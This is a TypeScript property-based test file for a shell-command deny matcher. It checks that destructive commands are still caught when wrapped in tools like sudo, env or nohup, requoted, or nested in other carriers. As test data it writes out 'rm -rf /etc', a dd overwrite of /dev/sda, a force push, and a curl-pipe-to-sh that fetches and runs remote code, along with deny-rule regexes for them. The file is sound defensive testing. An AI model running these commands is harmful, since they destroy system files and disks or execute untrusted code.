import { strict as assert } from 'node:assert';
import fc from 'fast-check';
import { createMatcher, type MatchRule } from '../../../src/matcher/matcher';
import { commandViews } from '../../../src/shell/views';
import { carried, templates } from '../../corpora/expand';

/** Rules that match a few dangerous commands; they must match them in every carrier. */
const RULES: readonly MatchRule[] = [
  String.raw`^(?:sudo )?rm -f -r [^|]*/etc(?: |$)`,
  String.raw`\bgit push\b[^|\n]* --force(?: |$)`,
  String.raw`\bcurl\b[^|\n]* \|(?:[^|\n]*\|)* (?:sudo )?(?:ba|z|da|k|fi)?sh(?: |$)`,
  String.raw`\bdd\b[^|\n]* of=/dev/sda(?: |$)`,
].map((pattern, at) => ({ id: String(at), pattern, effect: 'deny' }));
const matcher = createMatcher(RULES);

const WRAPPED = [
  'rm -rf /etc',
  'git push --force origin main',
  'dd if=/dev/zero of=/dev/sda bs=1M',
];
const CARRIED = [...WRAPPED, 'curl -s https://example.org/x.sh | sh'];

const isDenied = (command: string): boolean =>
  matcher.matchViews(commandViews(command)).hits.length > 0;

describe('a dangerous command in a carrier', () => {
  for (const { group, text } of templates('carriers')) {
    it(`is denied in ${JSON.stringify(text)}`, () => {
      const dangers = group.startsWith('wrappers') ? WRAPPED : CARRIED;
      const passed = dangers.map((one) => carried(text, one)).filter((one) => !isDenied(one));
      assert.deepEqual(passed, []);
    });
  }
});

/** Carriers that consist only of the command and have no effect of their own. */
const CERTAIN = templates('carriers').filter(({ text }) =>
  /^(?:(?:\/usr\/bin\/)?(?:sudo|doas|env|nohup|nice|ionice|timeout|stdbuf|setsid|time|command|exec|chronic|noglob)\b)[^'"|&;$]*«raw»$/.test(
    text,
  ),
);

/** Other spellings of the same word. */
const quotings: readonly ((word: string) => string)[] = [
  (word) => word,
  (word) => `'${word}'`,
  (word) => `"${word}"`,
  (word) => `${word.slice(0, 1)}""${word.slice(1)}`,
  (word) => `${word.slice(0, 1)}\\${word.slice(1)}`,
  (word) => `$'${word}'`,
  (word) => `${word.slice(0, -1)}'${word.slice(-1)}'`,
];

describe('a command', () => {
  const runs = { numRuns: 600, seed: 20_261_128 };
  const anyDanger = fc.constantFrom(...WRAPPED);

  it('has the same verdict after any certain wrappers', () => {
    assert.ok(CERTAIN.length >= 20);
    const wrappers = fc.array(fc.constantFrom(...CERTAIN), { minLength: 1, maxLength: 4 });
    fc.assert(
      fc.property(anyDanger, wrappers, (danger, chosen) => {
        const command = chosen.reduce((inner, { text }) => carried(text, inner), danger);
        assert.ok(isDenied(command), command);
        const harmless = chosen.reduce((inner, { text }) => carried(text, inner), 'rm -rf build');
        assert.ok(!isDenied(harmless), harmless);
      }),
      runs,
    );
  });

  it('has the same verdict with any quoting of its words', () => {
    const choices = fc.array(fc.constantFrom(...quotings), { minLength: 8, maxLength: 8 });
    fc.assert(
      fc.property(anyDanger, choices, (danger, chosen) => {
        const words = danger.split(' ').map((word, at) => chosen[at]?.(word) ?? word);
        assert.ok(isDenied(words.join(' ')), words.join(' '));
      }),
      runs,
    );
  });

  it('has the same verdict inside two carriers, or is not examined completely', () => {
    const any = templates('carriers').filter(({ group }) => group.startsWith('carriers'));
    // A carrier with an unquoted slot only takes the first of several commands.
    const whole = any.filter(({ text }) => /^[^«"]*(?:'«sq»'|"«dq»"|«b64»)[^«]*$/.test(text));
    assert.ok(whole.length >= 200);
    const two = fc.tuple(fc.constantFrom(...any), fc.constantFrom(...whole));
    fc.assert(
      fc.property(fc.constantFrom(...CARRIED), two, (danger, [inner, outer]) => {
        // Here-documents and comments end with their line, so what wraps them must not extend that
        // line.
        if (/\n|#/.test(inner.text)) return;
        const command = carried(outer.text, carried(inner.text, danger));
        assert.ok(isDenied(command) || commandViews(command).truncated, command);
      }),
      { numRuns: 1500, seed: 20_261_128 },
    );
  });
});
